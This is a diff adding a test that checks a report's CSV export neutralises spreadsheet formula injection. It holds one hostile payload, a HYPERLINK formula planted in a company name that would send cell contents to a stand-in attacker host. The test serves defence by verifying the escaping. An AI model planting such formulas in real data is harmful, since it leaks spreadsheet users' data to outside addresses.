@@ -187,3 +187,15 @@ def test_frn_8_report_queries_do_not_grow_with_partners_and_bookings(world, logi
     few = count()
     add(4)
     assert count() == few
+
+
+def test_frn_8_csv_export_never_carries_a_partners_formula(world, login, exchanged):
+    """A partner company names itself with a formula: in the other company's spreadsheet it
+    is text, not a link that sends the cells to an outside address."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    world.company_b.name = formula
+    world.company_b.save(update_fields=["name"])
+    response = login(world.admin_a).get(REPORT + "&format=csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))
+    assert [row[0] for row in rows[1:3]] == ["'" + formula] * 2
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
